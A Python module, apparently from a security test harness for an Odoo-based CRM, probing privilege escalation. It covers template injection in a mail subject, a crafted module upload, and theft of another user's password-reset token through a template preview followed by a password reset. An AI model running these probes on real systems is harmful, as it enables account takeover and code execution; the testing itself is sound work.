"""Ways to have the CRM itself act with all its rights: a mail run as code, a module, a link to a password."""

from __future__ import annotations

import io
import re
import zipfile
from contextlib import closing
from urllib.parse import unquote

from .doors import Visitor, Web
from .planting import Planted, login_of

_SUM = "{{ 1000 * 40 + len(object) }}"  # harmless, and told as a number only where it was run
_RUN = "40001"
_MODULE, _BEYOND = "preuve_de_mist", "au_dela_de_la_garde"
_MANIFEST = "{'name': 'x', 'version': '1.0', 'depends': ['base'], 'data': ['x.xml'], 'license': 'LGPL-3'}"
# It looks for what a guard has just said, then fails, so that nobody installs it to the end.
_FAILS = f"""<odoo>
<function model="ir.module.module" name="search_count">
<value eval="[('x_mist_guard', '=', 'ok')]"/>
</function>
<function model="ir.module.module" name="{_BEYOND}"/>
</odoo>"""


def mail_run(who: Visitor, _: Planted) -> bool:
    """Write oneself a mail whose subject is code."""
    told = who.say("res.users", "read", ids=[who.user], fields=["partner_id"])
    found = re.search(r'"partner_id": \[(\d+)', told)
    if found is None:
        return False
    about = {"model": "res.partner", "res_ids": f"[{found[1]}]", "composition_mode": "mass_mail"}
    made = who.say("mail.compose.message", "create", vals_list=[{"subject": _SUM, "body": "x", **about}])
    if made.strip("[]").isdigit():
        who.say("mail.compose.message", "action_send_mail", ids=[int(made.strip("[]"))])
    mine = [["model", "=", "res.partner"], ["res_id", "=", int(found[1])]]
    return _RUN in who.say("mail.message", "search_read", domain=mine, fields=["subject"])


def module_taken(who: Visitor, planted: Planted) -> bool:
    """Hand in a module, which the CRM installs with all rights; it fails at its end, and is taken back."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(f"{_MODULE}/__manifest__.py", _MANIFEST)
        archive.writestr(f"{_MODULE}/x.xml", _FAILS)
    about = {"login": login_of(who.persona), "password": planted.password.get_secret_value()}
    told = who.web.submit("/base_import_module/login_upload", about, {"mod_file": packed.getvalue()})
    # The CRM keeps the name of a module that failed.
    named = who.say("ir.module.module", "search", domain=[["name", "=", _MODULE]]).strip("[]")
    if named.isdigit():
        who.say("ir.module.module", "write", ids=[int(named)], vals={"state": "uninstalled"})
        who.say("ir.module.module", "unlink", ids=[int(named)])
    return f"'{_BEYOND}'" in told


def link_used(who: Visitor, planted: Planted) -> bool:
    """Have a letter shown that bears the link for somebody's password, and give her the one that she has."""
    other, _ = planted.keys.get("direction" if who.persona.id != "direction" else "accompanying", (0, None))
    number = planted.numbers.get("set_password_email", 0)
    about = {"mail_template_id": number, "resource_ref": f"res.users,{other}"}
    asked = {"values": about, "field_names": ["resource_ref"], "fields_spec": {"body_html": {}}}
    shown = who.say("mail.template.preview", "onchange", ids=[], **asked)
    found = re.search(r"[?&;]token=([\w%.-]+)", shown)
    if found is None:
        return False
    visitor = Web(who.web.profile)
    with closing(visitor):
        token, password = unquote(found[1]), planted.password.get_secret_value()
        visitor.get("/web/login", db=visitor.database)
        twice = {"password": password, "confirm_password": password}
        told = visitor.submit("/web/reset_password", {"token": token, "login": "x", "name": "x", **twice})
    return "alert-success" in told


def editor(who: Visitor, planted: Planted) -> bool:
    """Enter the group of those who write templates that run as code."""
    group = planted.numbers.get("group_mail_template_editor", 0)
    return who.say("res.users", "write", ids=[who.user], vals={"group_ids": [[4, group]]}) == "true"
